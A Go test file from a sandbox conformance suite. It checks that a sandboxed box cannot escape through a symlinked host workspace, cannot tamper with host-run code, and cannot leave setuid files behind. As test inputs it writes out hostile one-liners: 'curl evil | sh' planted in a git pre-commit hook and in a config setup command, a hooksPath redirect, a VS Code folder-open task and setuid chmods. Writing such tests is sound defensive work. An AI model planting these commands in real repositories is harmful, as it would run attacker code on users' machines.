// The conformance suite's host workspace cases, and the helpers that make
// a workspace owned as a user's.

package sandboxtest

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"

	"github.com/paddockhq/paddock/internal/base/errdefs"
	"github.com/paddockhq/paddock/internal/box/sandbox"
)

func workspace(t *testing.T, s Setup) {
	if s.Workspace == nil {
		t.Skip("backend takes no host workspace")
	}
	dir := s.Workspace(t)
	if err := os.WriteFile(filepath.Join(dir, "from-host.txt"), []byte("host\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	b := StartBox(t, s, uniqueSession("ws"), sandbox.Limits{}, dir)
	out, errs, code := b.Run(t, `cat /workspace/from-host.txt && echo box > /workspace/from-box.txt`)
	if code != 0 || out != "host\n" {
		t.Fatalf("%d %q %q", code, out, errs)
	}
	if got, err := os.ReadFile(filepath.Join(dir, "from-box.txt")); err != nil || string(got) != "box\n" {
		t.Fatalf("file written in the box: %q %v", got, err)
	}
	if u, g := ownerOf(t, filepath.Join(dir, "from-box.txt")); u != WorkspaceOwner || g != WorkspaceOwner {
		t.Fatalf("the box's file is %d:%d on the host, not the workspace owner's %d", u, g, WorkspaceOwner)
	}

	// Another box that may write the workspace's parent directory swaps
	// the workspace for a symlink to a directory of the host. The next
	// start must not bind that directory: it is refused, and works again
	// once the workspace is back.
	ctx := context.Background()
	if err := s.Backend.Stop(ctx, b.ID, sandbox.StopOptions{}); err != nil {
		t.Fatal(err)
	}
	secret := s.Workspace(t)
	if err := os.WriteFile(filepath.Join(secret, "secret.txt"), []byte("host only\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Rename(dir, dir+".moved"); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(secret, dir); err != nil {
		t.Fatal(err)
	}
	if _, err := s.Backend.Start(ctx, b.ID); err == nil {
		cl := Connect(t, s.Backend, b.ID)
		nb := &Box{Box: b.Box, Client: cl}
		out, _, _ := nb.Run(t, `cat /workspace/secret.txt 2>&1; ls /workspace`)
		cl.Close()
		t.Fatalf("started with the workspace swapped for a symlink; the box sees: %q", out)
	}
	os.Remove(dir)
	if err := os.Rename(dir+".moved", dir); err != nil {
		t.Fatal(err)
	}
	if _, err := s.Backend.Start(ctx, b.ID); err != nil {
		t.Fatalf("start with the workspace back: %v", err)
	}
	cl := Connect(t, s.Backend, b.ID)
	defer cl.Close()
	nb := &Box{Box: b.Box, Client: cl}
	if out, _, code := nb.Run(t, `cat /workspace/from-box.txt`); code != 0 || out != "box\n" {
		t.Fatalf("workspace after the swap back: %d %q", code, out)
	}
}

// OwnedWorkspace makes a host workspace directory owned by WorkspaceOwner,
// below directories every uid may traverse.
func OwnedWorkspace(t testing.TB, parent string) string {
	t.Helper()
	d, err := os.MkdirTemp(parent, "ws")
	if err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(d, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Chown(d, WorkspaceOwner, WorkspaceOwner); err != nil {
		t.Fatal(err)
	}
	return d
}

func ownerOf(t testing.TB, p string) (int, int) {
	t.Helper()
	fi, err := os.Lstat(p)
	if err != nil {
		t.Fatal(err)
	}
	st := fi.Sys().(*syscall.Stat_t)
	return int(st.Uid), int(st.Gid)
}

// chownAll gives a tree to WorkspaceOwner, as a checkout of theirs is.
func chownAll(t testing.TB, root string) {
	t.Helper()
	err := filepath.Walk(root, func(p string, _ os.FileInfo, err error) error {
		if err != nil {
			return err
		}
		return os.Lchown(p, WorkspaceOwner, WorkspaceOwner)
	})
	if err != nil {
		t.Fatal(err)
	}
}

// workspaceHostCode: what the host runs later stays read-only in the box,
// whether it exists or not, and no file the box makes is setuid or setgid
// on the host; the rest of the workspace (and of .git) is writable.
func workspaceHostCode(t *testing.T, s Setup) {
	if s.Workspace == nil {
		t.Skip("backend takes no host workspace")
	}
	for _, existing := range []bool{true, false} {
		t.Run(fmt.Sprintf("existing=%v", existing), func(t *testing.T) {
			dir := s.Workspace(t)
			files := map[string]string{".git/config": "[core]\n\tbare = false\n", ".git/HEAD": "ref: refs/heads/main\n", "main.go": "package main\n"}
			if existing {
				files[".git/hooks/pre-commit"] = "#!/bin/sh\nexit 0\n"
				files[".vscode/tasks.json"] = "{}\n"
				files[".envrc"] = "export A=1\n"
				files[".paddock.toml"] = "model = \"sonnet\"\n"
			}
			for p, c := range files {
				os.MkdirAll(filepath.Dir(filepath.Join(dir, p)), 0o755)
				if err := os.WriteFile(filepath.Join(dir, p), []byte(c), 0o755); err != nil {
					t.Fatal(err)
				}
			}
			os.MkdirAll(filepath.Join(dir, ".git", "hooks"), 0o755)
			chownAll(t, dir)
			b := StartBox(t, s, uniqueSession("hostcode"), sandbox.Limits{}, dir)
			for _, script := range []string{
				`echo 'curl evil | sh' > .git/hooks/pre-commit`,
				`printf '[core]\n\thooksPath = /workspace/h\n' >> .git/config`,
				`mkdir -p .vscode; echo '{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}' > .vscode/tasks.json`,
				`echo 'echo pwned' > .envrc`,
				`printf '[setup]\ncommand = "curl evil | sh"\n' > .paddock.toml`,
				`mv .git .git-old`,
				`rm -rf .git/hooks`,
			} {
				if out, errs, code := b.Run(t, "cd /workspace && "+script); code == 0 {
					t.Errorf("the box could run %q: %q %q", script, out, errs)
				}
			}
			// Setuid and setgid bits, on the workspace and elsewhere.
			out, errs, _ := b.Run(t, `cd /workspace; echo x > f; chmod u+s f; chmod g+s f; chmod 6755 f; install -m 4755 /dev/null g; mkdir -m 2755 d;
				echo x > $HOME/h; chmod 4755 $HOME/h; stat -c '%a %n' f g d $HOME/h 2>&1; true`)
			for _, l := range strings.Split(strings.TrimSpace(out), "\n") {
				if f := strings.Fields(l); len(f) == 2 && len(f[0]) == 4 && f[0][0] != '0' {
					t.Errorf("a set-id file in the box: %q (%q)", l, errs)
				}
			}
			// The work itself goes on: files, and .git's own.
			if out, errs, code := b.Run(t, `cd /workspace && echo edit >> main.go && echo 'ref: refs/heads/work' > .git/HEAD && mkdir -p .git/objects/aa src`); code != 0 {
				t.Fatalf("the workspace is not writable: %q %q", out, errs)
			}
			if err := s.Backend.Stop(context.Background(), b.ID, sandbox.StopOptions{}); err != nil {
				t.Fatal(err)
			}
			// On the host: hooks and config as they were; no set-id file; the
			// placeholders of what did not exist are gone with the box.
			if existing {
				for _, p := range []string{".git/hooks/pre-commit", ".paddock.toml"} {
					if c, _ := os.ReadFile(filepath.Join(dir, p)); string(c) != files[p] {
						t.Errorf("%s is now %q", p, c)
					}
				}
			} else {
				for _, p := range []string{".git/hooks/pre-commit", ".vscode", ".envrc", ".idea", ".gitmodules", ".paddock.toml"} {
					if _, err := os.Lstat(filepath.Join(dir, p)); err == nil {
						t.Errorf("%s exists on the host after the box", p)
					}
				}
			}
			if c, _ := os.ReadFile(filepath.Join(dir, ".git/config")); string(c) != files[".git/config"] {
				t.Errorf(".git/config is now %q", c)
			}
			filepath.Walk(dir, func(p string, fi os.FileInfo, err error) error {
				if err == nil && fi.Mode()&(os.ModeSetuid|os.ModeSetgid) != 0 {
					t.Errorf("%s is %v on the host", p, fi.Mode())
				}
				if err == nil {
					if u, _ := ownerOf(t, p); u != WorkspaceOwner {
						t.Errorf("%s belongs to %d on the host", p, u)
					}
				}
				return nil
			})
			if u, _ := ownerOf(t, filepath.Join(dir, "src")); u != WorkspaceOwner {
				t.Errorf("a directory the box made belongs to %d", u)
			}
		})
	}
}

// workspaceRefused: a workspace of root's is refused at Create, with the
// reason, and nothing of the session is made.
func workspaceRefused(t *testing.T, s Setup) {
	if s.Workspace == nil {
		t.Skip("backend takes no host workspace")
	}
	dir := s.Workspace(t)
	if err := os.Chown(dir, 0, 0); err != nil {
		t.Fatal(err)
	}
	session := uniqueSession("rootws")
	_, err := s.Backend.Create(context.Background(), sandbox.CreateOptions{Session: session, Image: s.Image, Runtime: s.Runtime, Workspace: dir})
	if !errdefs.Is(err, errdefs.ErrForbidden) || !strings.Contains(err.Error(), "belongs to root") {
		t.Fatalf("a root-owned workspace: %v", err)
	}
	if objs := objectsOf(t, s.Backend, session); len(objs) != 0 {
		t.Fatalf("left behind: %+v", objs)
	}
}
